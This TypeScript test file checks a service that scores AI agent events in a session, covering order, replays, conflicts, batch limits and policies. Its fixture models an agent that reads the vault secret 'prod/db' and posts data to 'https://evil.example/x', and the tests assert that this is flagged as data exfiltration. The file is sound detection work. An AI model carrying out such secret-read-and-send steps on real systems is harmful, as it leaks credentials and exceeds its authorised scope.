/** Events of a session in one commit, on a real database: each is scored with those before it, and their order is kept. */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { describe, test } from 'node:test';
import { asEvent, knowledge } from '../../test/support/knowledge.ts';
import { NO_SERVER, useNode } from '../../test/support/test-database.ts';
import type { AgentEvent } from '../events/event.ts';
import { contentOf, type Submission } from '../events/submission.ts';
import { systemClock } from '../platform/clock.ts';
import { WeirError } from '../platform/errors.ts';
import { NO_POLICY } from '../scoring/policy/policy.ts';
import { score } from '../scoring/score.ts';
import { memoryCache } from '../storage/memory/cache.ts';
import { MOST_IN_ORDER } from '../storage/ports/storage.ts';
import { createEvaluate, type EvaluateParts } from './evaluate.ts';
import { createMakeScore, scoreHere } from './making/make-score.ts';
import { createScoreCache } from './making/score-cache.ts';
import { createMemories, ownersOf } from './memories/memories.ts';
import { createPolicies } from './policies.ts';

const toSubmission = (event: AgentEvent): Submission => ({ event, ...contentOf(event) });
const always = (wanted: number) => wanted;

/** A session at work, which then takes a secret away. Their ids are in no order. */
function session(length: number): AgentEvent[] {
  const [agent_id, session_id] = [randomUUID(), randomUUID()];
  const of = (action: string, parts: Partial<AgentEvent>): AgentEvent =>
    asEvent({ event_id: randomUUID(), action, agent: { agent_id }, session: { session_id }, ...parts });
  const work = Array.from({ length: length - 2 }, (_, n) =>
    of('crm:contact:read', { target: { resource_type: 'customer_record', resource_id: `c${n}` } }),
  );
  return [
    ...work,
    of('vault:secret:read', { target: { resource_type: 'secret', resource_id: 'prod/db' } }),
    of('http:request:post', { parameters: { url: 'https://evil.example/x', body: 'x' } }),
  ];
}

describe('evaluate: events of a session', { skip: NO_SERVER ?? false }, () => {
  const own = useNode();

  function makeNode(fault: Partial<EvaluateParts> = {}) {
    const { storage } = own;
    const cache = memoryCache();
    const memories = createMemories({ storage, cache, clock: systemClock });
    const policies = createPolicies({ storage, knowledge });
    const makeScore = createMakeScore(scoreHere(knowledge), createScoreCache(knowledge.version));
    const holding = { threshold: 'high', ttl_minutes: 60 } as const;
    const parts: EvaluateParts = { storage, policies, memories, makeScore, holding, clock: systemClock, ...fault };
    const evaluateSession = createEvaluate(parts);
    return {
      cache,
      memories,
      policies,
      makeScore,
      /** One event; `takeMore` of the others is told how many could go with the first. */
      evaluate: (customer_id: string, submission: Submission) => evaluateSession(customer_id, [submission]),
      evaluateInOrder: (customer_id: string, submissions: Submission[], takeMore: (wanted: number) => number) =>
        evaluateSession(customer_id, submissions, { takeMore }),
    };
  }
  const violationsOf = async (customer_id: string, events: AgentEvent[]) => {
    const found = await Promise.all(events.map(({ event_id }) => own.storage.scores.find(customer_id, event_id)));
    return found.map((record) => record!.assessment.violations);
  };

  test('each is scored with the events before it, as if they had been stored', async () => {
    const events = session(12);
    const [together, apart] = [randomUUID(), randomUUID()];
    const { evaluateInOrder } = makeNode();
    const outcomes = await evaluateInOrder(together, events.map(toSubmission), always);
    assert.equal(outcomes.length, events.length);
    const { evaluate } = makeNode();
    for (const event of events) await evaluate(apart, toSubmission(event));
    const violations = await violationsOf(together, events);
    assert.deepEqual(violations, await violationsOf(apart, events));
    assert.ok(violations.at(-1)!.includes('secret_was_read_and_data_go_out'), `${violations.at(-1)}`);
    for (const { event_id } of events) {
      const record = await own.storage.scores.find(together, event_id);
      const again = score(record!.event, record!.past!.history, NO_POLICY, knowledge);
      assert.equal(JSON.stringify(again), JSON.stringify(record!.assessment), 'made again from what is stored');
    }
  });

  test('their memories can be rebuilt from the database, with the events in order', async () => {
    const customer_id = randomUUID();
    const events = session(40);
    const node = makeNode();
    await node.evaluateInOrder(customer_id, events.map(toSubmission), always);
    const remembered = async ({ memories }: Pick<typeof node, 'memories'>) => {
      const { agent, session } = await memories.recall(ownersOf(customer_id, events[0]!)!);
      return [agent!, session!].map(({ counted_from: _, told: __, ...known }) => structuredClone(known));
    };
    const kept = await remembered(node);
    assert.equal(kept[0]!.n, events.length);
    assert.deepEqual(
      kept[0]!.last.map(({ event_id }) => event_id),
      events.slice(-kept[0]!.last.length).map(({ event_id }) => event_id),
    );
    assert.deepEqual(await remembered(makeNode()), kept);
  });

  test('as many are scored together as there is room for', async () => {
    const customer_id = randomUUID();
    const { evaluateInOrder } = makeNode();
    const submissions = session(MOST_IN_ORDER + 20).map(toSubmission);
    const wanted: number[] = [];
    const takeTwo = (more: number): number => {
      wanted.push(more);
      return 2;
    };
    assert.equal((await evaluateInOrder(customer_id, submissions, takeTwo)).length, 3);
    assert.deepEqual(wanted, [MOST_IN_ORDER - 1]);
    assert.equal((await evaluateInOrder(customer_id, submissions.slice(3), always)).length, MOST_IN_ORDER);
    const large = session(5).map((event) => toSubmission({ ...event, user_context: 'x'.repeat(600_000) }));
    assert.equal((await evaluateInOrder(customer_id, large, always)).length, 2);
    assert.equal((await own.storage.scores.summary(customer_id)).total_events, 3 + MOST_IN_ORDER + 2);
  });

  test('a replay and a conflict are answered as such; the events behind them are stored', async () => {
    const customer_id = randomUUID();
    const node = makeNode();
    const events = session(5);
    await node.evaluate(customer_id, toSubmission(events[1]!));
    await node.evaluate(customer_id, toSubmission({ ...events[2]!, action: 'crm:contact:delete' }));
    const outcomes = await node.evaluateInOrder(customer_id, events.map(toSubmission), always);
    assert.deepEqual(
      outcomes.map((outcome) =>
        outcome instanceof WeirError ? outcome.code : !('is_replay' in outcome) || outcome.is_replay,
      ),
      [false, true, 'event_conflict', false, false],
    );
    const { agent } = await node.memories.recall(ownersOf(customer_id, events[0]!)!);
    assert.equal(agent!.n, 5, 'each is remembered once');
  });

  test('a refused event does not count for the events behind it, and a replay counts once', async () => {
    const [customer_id, apart] = [randomUUID(), randomUUID()];
    const events = session(6);
    const [secret, last] = events.slice(-2) as [AgentEvent, AgentEvent];
    const there = [...events.slice(0, 4), { ...secret, action: 'crm:contact:list', target: {} }];
    for (const customer of [customer_id, apart]) {
      const { evaluate } = makeNode();
      for (const event of there) await evaluate(customer, toSubmission(event));
    }
    const fresh = { ...events[3]!, event_id: randomUUID() };
    const row = [...events.slice(0, 4), secret, fresh, fresh, { ...last, event_id: secret.event_id }, last];
    const outcomes = await makeNode().evaluateInOrder(customer_id, row.map(toSubmission), always);
    assert.deepEqual(
      outcomes.map((outcome) =>
        outcome instanceof WeirError ? outcome.code : !('is_replay' in outcome) || outcome.is_replay,
      ),
      [true, true, true, true, 'event_conflict', false, true, 'event_conflict', false],
    );
    const { evaluate } = makeNode();
    for (const event of [fresh, last]) await evaluate(apart, toSubmission(event));
    assert.deepEqual(await violationsOf(customer_id, [fresh, last]), await violationsOf(apart, [fresh, last]));
    const histories = [customer_id, apart].map(
      async (customer) => (await own.storage.scores.find(customer, last.event_id))!.past!.history,
    );
    assert.deepEqual(await histories[0], await histories[1]);
  });

  test('an event that arrives meanwhile is scored before the rest of the session', async () => {
    const customer_id = randomUUID();
    const events = session(MOST_IN_ORDER);
    const alone = asEvent({ event_id: randomUUID(), action: 'crm:contact:read' });
    const order: string[] = [];
    const answers: Promise<unknown>[] = [];
    const { makeScore } = makeNode();
    const node = makeNode({
      makeScore: (...scored) => {
        const { event_id } = scored[1].event;
        order.push(event_id);
        if (event_id === events[1]!.event_id) answers.push(node.evaluate(customer_id, toSubmission(alone)));
        return makeScore(...scored);
      },
    });
    answers.push(node.evaluateInOrder(customer_id, events.map(toSubmission), always));
    await answers[0];
    await Promise.all(answers);
    assert.equal(order.length, MOST_IN_ORDER + 1);
    assert.ok(order.indexOf(alone.event_id) < MOST_IN_ORDER, `${order.indexOf(alone.event_id)}`);
  });

  test('an event that cannot be scored ends the row before it, and rejects when it comes first', async () => {
    const customer_id = randomUUID();
    const events = session(4);
    const { makeScore } = makeNode();
    const { evaluateInOrder } = makeNode({
      makeScore: (...scored) => {
        if (scored[1].event.event_id === events[2]!.event_id) throw new Error('cannot be scored');
        return makeScore(...scored);
      },
    });
    const submissions = events.map(toSubmission);
    assert.equal((await evaluateInOrder(customer_id, submissions, always)).length, 2);
    await assert.rejects(evaluateInOrder(customer_id, submissions.slice(2), always), /cannot be scored/);
    assert.equal((await evaluateInOrder(customer_id, submissions.slice(3), always)).length, 1);
  });

  test('a policy that is put meanwhile is in force for all of them', async () => {
    const customer_id = randomUUID();
    const [node, other] = [makeNode(), makeNode()];
    const events = session(6);
    await node.policies.inForce(customer_id);
    await other.policies.put(customer_id, { blocked_actions: ['crm:contact:read'] });
    const outcomes = await node.evaluateInOrder(customer_id, events.map(toSubmission), always);
    assert.equal(outcomes.length, 6);
    for (const { event_id } of events.slice(0, 4)) {
      const record = await own.storage.scores.find(customer_id, event_id);
      assert.deepEqual([record?.assessment.policy_version, record?.risk_level], [1, 'critical']);
    }
  });
});
